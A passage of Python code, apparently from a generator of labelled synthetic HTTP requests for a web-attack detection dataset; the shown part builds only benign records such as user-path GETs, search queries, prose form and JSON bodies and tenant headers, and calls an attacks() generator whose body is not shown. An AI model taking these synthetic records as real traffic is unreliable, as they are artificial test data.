                                       "headers": b.browser(cookie_extra=f"; {name}={value}")})
    for k, seg in enumerate(PATHS):
        yield rec("path", "path", {"method": "GET", "uri": f"/api/users/{seg}", "body": "", "headers": b.browser()})
        yield rec("crawl-path", "rs-query", {"method": "GET", "uri": f"/search?q={seg}&page={k % 4 + 1}",
                                             "body": "", "headers": b.browser(accept="text/html")})
    for k, text in enumerate(PROSE):
        yield rec("prose", "form", real_request(b, "form", text, "", k))
        yield rec("prose-json", "json", real_request(b, "json", text, "", k))
        yield rec("crawl-form", "rs-form", rs_request(b, "rs-form", text, "", k))
        yield rec("tenant", "header:X-Tenant-Id", real_request(b, "header:X-Tenant-Id", f"acme-{k:03d}", "", k))


if __name__ == "__main__":
    print_records(attacks(), benign())
